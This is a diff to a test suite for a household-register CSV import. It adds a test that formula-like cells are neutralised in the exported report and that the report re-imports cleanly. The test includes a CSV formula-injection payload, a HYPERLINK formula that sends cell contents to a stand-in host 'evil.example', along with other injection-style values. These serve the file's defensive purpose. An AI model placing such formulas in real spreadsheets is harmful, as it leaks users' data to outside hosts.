@@ -346,7 +346,7 @@ describe.each(databaseKinds())('households import on %s', (kind) => {
       { input: { importId: checked.id, rowNumbers: [2, 4] } },
       district,
     );
-    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.rowNumbers' });
+    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: expect.stringMatching(/^input\.rowNumbers(\.0)?$/) });
     const after = await settledImport(server, district, checked.id);
     expect(after.counts.accepted).toBe(0);
   });
@@ -520,5 +520,24 @@ describe.each(databaseKinds())('households import on %s', (kind) => {
     const members = await orm.em.fork().find(Resident, { household: household!.id }, { orderBy: { id: 'asc' } });
     expect(members.map((member) => member.name)).toEqual(['补录户', '补录新生']);
     expect((await orm.em.fork().findOneOrFail(Household, household!.id)).version).toBe(household!.version + 1);
+  });
+
+  it('neutralises cells that start like a formula in the CSV report, and reads the fixed report back as the original', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")';
+    const people = [single('公式户', { address: formula }), single('+1+cmd', { address: '@SUM(1+1)' })];
+    const original = csvOf(sheetOf(people) as string[][]);
+    const first = await committedImport(server, district, (await checkedImport(server, district, 'HOUSEHOLDS', original, { fileName: 'f.csv' })).id);
+    expect(first.counts.created).toBe(2);
+    expect(await orm.em.fork().count(Household, { address: formula })).toBe(1);
+    const response = await fetch(`${server.url}/imports/${first.id}/report.csv`, { headers: district });
+    const report = Buffer.from(await response.arrayBuffer());
+    const text = report.toString('utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点此查看"")"`);
+    expect(text).toContain("'+1+cmd");
+    expect(text).toContain("'@SUM(1+1)");
+    expect(text.split('\r\n').some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
+    // Uploaded again, the report is the same file: every row was written already (the 问题 column is ignored).
+    const again = await checkedImport(server, district, 'HOUSEHOLDS', report, { fileName: 'f-report.csv' });
+    expect((await problemsOf(server, district, again.id)).map((found) => found.code)).toEqual(['ALREADY_IMPORTED', 'ALREADY_IMPORTED']);
   });
 });
